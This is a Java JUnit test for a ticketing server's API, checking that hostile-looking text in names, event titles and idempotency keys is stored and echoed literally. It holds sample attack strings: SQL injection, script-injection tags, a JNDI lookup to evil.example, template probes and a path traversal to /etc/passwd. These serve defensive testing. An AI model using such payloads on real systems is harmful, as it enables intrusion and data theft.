package dev.marquee.server.http;

import static org.junit.jupiter.api.Assertions.assertEquals;

import com.fasterxml.jackson.databind.JsonNode;
import dev.marquee.server.idempotency.Idempotency;
import dev.marquee.server.testing.ApiClient;
import dev.marquee.server.testing.ApiResponse;
import dev.marquee.server.testing.Shows.Tier;
import dev.marquee.server.testing.Shows;
import dev.marquee.server.testing.TestServer;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.StreamSupport;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Text that looks like SQL, markup, format strings or exotic Unicode is stored and answered exactly as given. */
class HostileInputTest {

    private static final Map<String, Object> CARD = Map.of("method", "CARD", "cardNumber", "4242424242424242");

    private static TestServer server;
    private static Shows.Show show;
    private static ApiClient clerk;
    private static ApiClient admin;

    @BeforeAll
    static void start() {
        server = TestServer.start();
        show = new Shows(server).ga(Tier.ga("GA", 1500, 1000));
        clerk = server.clerk();
        admin = server.admin();
    }

    @AfterAll
    static void stop() {
        server.close();
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "Robert'); DROP TABLE users;--",
            "' OR '1'='1' --",
            "1; SELECT pg_sleep(10)",
            "<script>alert(\"pwned\")</script>",
            "<img src=x onerror=alert(1)>&amp;&lt;",
            "${jndi:ldap://evil.example/a} #{7*7} {{7*7}}",
            "%s %n %x {0} \\u0041 \\n",
            "../../etc/passwd",
            "back\\slash \"quoted\" 'single'",
            "Zoë Saldaña — 東京 — مرحبا — 🎟️🎸👩🏽‍🎤",
            "\u202Eevil\u202C right-to-left and zero\u200Bwidth",
            "line one\nline two\ttabbed"})
    void hostileTextIsStoredAndAnsweredLiterally(String text) {
        String email = "hostile-" + UUID.randomUUID() + "@example.test";
        ApiResponse signup = server.anonymous().post("/api/auth/signup",
                Map.of("email", email, "password", "long-enough", "displayName", text));
        assertEquals(201, signup.status(), signup::toString);
        assertEquals(text, signup.body().get("displayName").asText());
        assertEquals(text, server.query("SELECT display_name FROM users WHERE email = ?", email).getFirst()
                .get("display_name"));

        ApiResponse event = admin.post("/api/admin/events", Map.of("title", text, "description", text));
        assertEquals(201, event.status(), event::toString);
        JsonNode listed = StreamSupport.stream(server.anonymous().get("/api/events").body().spliterator(), false)
                .filter(e -> e.get("id").asLong() == event.body().get("id").asLong()).findFirst().orElseThrow();
        assertEquals(text, listed.get("title").asText());
        assertEquals(text, listed.get("description").asText());

        // HTTP header values are printable ASCII, so only such text can double as the Idempotency-Key.
        String key = text.matches("[\\x20-\\x7E]+") ? text : UUID.randomUUID().toString();
        ApiResponse sale = clerk.postOnce("/api/sales", key, Map.of("showId", show.id(),
                "items", List.of(Map.of("tierId", show.tier(0), "quantity", 1)), "payment", CARD, "customerName", text));
        assertEquals(201, sale.status(), sale::toString);
        assertEquals(text, sale.body().get("customerName").asText());
        ApiResponse order = clerk.get("/api/orders/" + sale.body().get("id").asText());
        assertEquals(text, order.body().get("customerName").asText());
        assertEquals("true", clerk.postOnce("/api/sales", key, Map.of("showId", show.id(),
                "items", List.of(Map.of("tierId", show.tier(0), "quantity", 1)), "payment", CARD, "customerName", text))
                .header("Idempotent-Replayed"), "a hostile Idempotency-Key is just a key");

        assertEquals(1, server.number("SELECT count(*) FROM users WHERE email = ?", email), "users is intact");
    }
}
